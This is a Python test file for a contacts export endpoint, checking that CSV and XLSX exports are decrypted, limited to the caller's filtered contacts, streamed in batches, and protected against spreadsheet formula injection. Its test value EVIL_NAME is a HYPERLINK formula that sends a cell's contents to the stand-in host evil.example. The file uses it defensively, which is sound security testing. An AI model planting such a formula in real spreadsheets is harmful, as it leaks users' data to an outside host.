"""GET /v1/contacts/export: decrypted, filtered, streamed, and never a formula in a spreadsheet."""

import csv
import io
import json

import openpyxl
import pytest

from kloyst.http.spreadsheet import csv_chunks, csv_safe
from kloyst_plugins.contacts import export

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _csv_rows(response):
    assert response.content_type == "text/csv"
    text = response.body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_csv_export_is_decrypted_and_neutralizes_formulas(testapp, vendor, add_contact):
    add_contact(vendor, "+447400123456", name=EVIL_NAME, labels=["vip", "a,b"], attributes={"debt": -5, "ok": True})
    add_contact(vendor, "+12015550123", name="@SUM(1+1)")
    response = testapp.get("/v1/contacts/export", {"format": "csv"}, headers=vendor.headers)
    assert "attachment" in response.headers["Content-Disposition"] and ".csv" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    newest, oldest = _csv_rows(response)
    assert oldest["name"] == "'" + EVIL_NAME
    assert oldest["mobile"] == "'+447400123456"  # E.164 starts with "+": prefixed in CSV, by design
    assert oldest["country"] == "GB" and oldest["calling_code"] == "44"
    assert json.loads(oldest["labels"]) == ["vip", "a,b"]
    assert json.loads(oldest["attributes"]) == {"debt": -5, "ok": True}
    assert oldest["opted_out"] == "false"
    assert newest["name"] == "'@SUM(1+1)"


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("\0x", "'\0x"), ("plain", "plain"), ("", ""), ("a=b", "a=b"),
])
def test_csv_safe_prefixes_only_dangerous_first_characters(value, expected):
    assert csv_safe(value) == expected


def test_xlsx_export_writes_every_cell_as_a_string(testapp, vendor, add_contact):
    add_contact(vendor, "+447400123456", name=EVIL_NAME, attributes={"n": 1})
    response = testapp.get("/v1/contacts/export", {"format": "xlsx"}, headers=vendor.headers)
    assert response.content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(response.body)).active
    header, row = list(sheet.iter_rows())
    assert [c.value for c in header] == list(export.COLUMNS)
    values = {column: cell for column, cell in zip(export.COLUMNS, row)}
    assert values["name"].value == EVIL_NAME and values["name"].data_type == "s"
    assert values["mobile"].value == "+447400123456"  # no prefix needed: a string cell is never a formula
    assert all(cell.data_type == "s" for cell in header + row if cell.value is not None)


def test_export_applies_the_list_filters_and_only_the_callers_contacts(testapp, accounts, enable_plugin, vendor,
                                                                       add_contact):
    other = accounts.vendor("Other")
    enable_plugin(other, "contacts")
    add_contact(other, "+447400100009", labels=["vip"])
    add_contact(vendor, "+447400100001", labels=["vip"])
    add_contact(vendor, "+447400100002", labels=["nope"])
    rows = _csv_rows(testapp.get("/v1/contacts/export?label=vip", headers=vendor.headers))
    assert [r["mobile"] for r in rows] == ["'+447400100001"]
    testapp.get("/v1/contacts/export", {"format": "pdf"}, headers=vendor.headers, status=422)
    testapp.get("/v1/contacts/export", {"phone": "+999123"}, headers=vendor.headers, status=422)


def test_export_streams_in_batches_across_many_rows(testapp, vendor, add_contact, monkeypatch):
    monkeypatch.setattr(export, "BATCH", 3)
    made = [add_contact(vendor, f"+4474001005{i:02d}") for i in range(8)]
    response = testapp.get("/v1/contacts/export", headers=vendor.headers)
    assert [r["id"] for r in _csv_rows(response)] == [c["id"] for c in reversed(made)]


def test_csv_chunks_is_a_generator_that_yields_as_it_goes():
    rows = ([str(i)] * len(export.COLUMNS) for i in range(5000))
    chunks = csv_chunks(export.COLUMNS, rows)
    first = next(chunks)
    assert first.startswith("\ufeff".encode()) and len(first) < 200 * 1024
    assert sum(1 for _ in chunks) >= 1
    small = list(csv_chunks(export.COLUMNS, ([str(i)] * len(export.COLUMNS) for i in range(20)), flush_bytes=100))
    assert len(small) > 5 and b"".join(small).decode("utf-8-sig").count("\r\n") == 21
